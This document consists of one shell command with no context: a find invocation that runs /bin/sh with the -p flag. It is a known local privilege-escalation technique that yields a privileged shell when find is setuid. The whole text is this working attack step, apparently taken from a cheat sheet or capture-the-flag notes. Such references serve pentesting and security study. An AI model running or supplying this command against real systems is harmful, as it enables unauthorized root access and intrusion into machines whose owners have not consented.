find . -exec /bin/sh -p \; -quit
